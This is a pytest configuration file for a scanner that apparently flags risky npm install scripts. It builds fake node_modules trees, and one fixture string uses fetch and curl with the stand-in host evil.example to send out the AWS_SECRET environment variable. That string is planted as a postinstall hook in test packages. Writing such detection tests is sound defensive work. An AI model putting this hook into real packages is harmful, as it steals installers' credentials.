"""
Pytest configuration and shared fixtures.

Fixtures here build throwaway dependency trees under ``tmp_path``.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from installguard.analyzers.aggregator import RiskAggregator
from installguard.analyzers.pipeline import ScanPipeline
from installguard.analyzers.script import ScriptAnalyzer

EXFIL_SCRIPT = (
    "fetch('http://evil.example').then(r=>r.json())"
    ".then(d=>require('child_process').exec('curl '+process.env.AWS_SECRET))"
)


def write_json(path: Path, data: Any) -> Path:
    """Write JSON data to ``path``, creating parent directories."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2), encoding="utf-8")
    return path


def make_package(root: Path, name: str, scripts: dict | None = None, version: str = "1.0.0") -> Path:
    """Create ``root/<name>/package.json``; ``name`` may be scoped (``@scope/pkg``)."""
    data: dict[str, Any] = {"name": name, "version": version}
    if scripts is not None:
        data["scripts"] = scripts
    return write_json(root / name / "package.json", data)


@pytest.fixture
def analyzer() -> ScriptAnalyzer:
    return ScriptAnalyzer()


@pytest.fixture
def aggregator() -> RiskAggregator:
    return RiskAggregator()


@pytest.fixture
def pipeline() -> ScanPipeline:
    return ScanPipeline()


@pytest.fixture
def node_modules(tmp_path: Path) -> Path:
    """A dependency tree with clean, risky, scoped and broken packages."""
    root = tmp_path / "node_modules"
    root.mkdir()

    make_package(root, "left-pad")
    make_package(root, "echoer", {"install": "echo hello"})
    make_package(root, "stealer", {"postinstall": EXFIL_SCRIPT})
    make_package(root, "@acme/clean", {"test": "jest"})
    make_package(root, "@acme/dropper", {"preinstall": "node setup_bun.js"})

    # Ignored: dot directory and a nested node_modules beneath a package
    make_package(root / ".bin", "hidden", {"postinstall": EXFIL_SCRIPT})
    make_package(root / "left-pad" / "node_modules", "nested", {"postinstall": EXFIL_SCRIPT})

    # Broken packages that must be skipped
    broken = root / "broken-json"
    broken.mkdir()
    (broken / "package.json").write_text("{not json", encoding="utf-8")
    make_package(root, "bad-script", {"postinstall": ["curl", "evil"]})

    return root
